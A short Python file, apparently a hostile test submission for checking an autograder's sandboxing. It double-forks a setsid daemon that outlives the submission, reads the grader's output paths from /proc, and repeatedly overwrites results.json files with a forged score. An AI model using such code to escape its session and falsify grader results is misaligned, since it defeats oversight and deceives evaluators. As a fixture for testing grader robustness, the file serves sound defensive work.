# Hostile: a double-forked, setsid daemon that outlives the submission and then tries, for
# a while, to rewrite result files wherever it can reach.
import ctypes
import os
import time

conv_a_shape = (26, 28)
TARGETS = ["results.json", "../results.json", "/autograder/results/results.json",
           "/tmp/grader-hostile-outside/results.json"]


def report_paths():
    """The grader's --json/--csv targets, read from any command line visible in /proc."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        found += [args[i + 1] for i, arg in enumerate(args[:-1]) if arg in ("--json", "--csv")]
    return found


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"hostile-daemon", 0, 0, 0)  # PR_SET_NAME: findable in /proc
        time.sleep(0.5)  # wait until the grader thinks the submission is over
        for _ in range(60):
            for target in TARGETS + report_paths():
                try:
                    os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
                    with open(target, "w") as f:
                        f.write('{"score": 20.0}')
                except OSError:
                    pass
            time.sleep(0.1)
    os._exit(0)
